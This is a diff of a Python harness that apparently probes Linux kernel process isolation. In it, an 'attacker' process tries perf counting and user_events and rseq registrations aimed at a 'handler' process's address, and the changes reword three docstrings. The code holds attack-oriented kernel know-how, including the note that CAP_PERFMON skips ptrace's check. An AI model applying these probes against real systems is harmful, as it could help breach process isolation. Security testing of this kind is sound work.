@@ -70,7 +70,7 @@ _perf = partial(
     debugging=True,
 )
 def perf_count(attacker: Attacker, handler: Handler) -> None:
-    """Count the handler's context switches by perf. With CAP_PERFMON it skips ptrace's check."""
+    """Count the handler's context switches by perf. With CAP_PERFMON perf skips ptrace's check."""
     PerfEvent(attacker, handler.pid)
     handler.wait_for_request()
 
@@ -254,7 +254,7 @@ def _ask(attacker: Attacker, payload: str, *arguments: str, numbers: int = 1) ->
 
 @_own(reach="pin_user_pages_remote", needs=("USER_EVENTS",))
 def user_events(attacker: Attacker, handler: Handler) -> None:
-    """Register a user event at the handler's address. It is written to the attacker's memory."""
+    """Register a user event at the handler's address. The write goes to the attacker's memory."""
     attacker.open(USER_EVENTS, O_RDWR).close()  # the payload opens it as well, without an errno
     if _ask(attacker, "foreign_word", "user_events", f"{handler.symbol('chain'):016x}") != (1,):
         raise LookupError("the kernel did not write to the attacker's memory either")
@@ -262,7 +262,7 @@ def user_events(attacker: Attacker, handler: Handler) -> None:
 
 @_own(reach="__x64_sys_rseq")
 def rseq(attacker: Attacker, handler: Handler) -> None:
-    """Register rseq(2) at the handler's address. It is written to the attacker's memory."""
+    """Register rseq(2) at the handler's address. The write goes to the attacker's memory."""
     if _ask(attacker, "foreign_word", "rseq", f"{handler.symbol('chain'):016x}") != (1,):
         raise LookupError("the kernel did not write to the attacker's memory either")
 
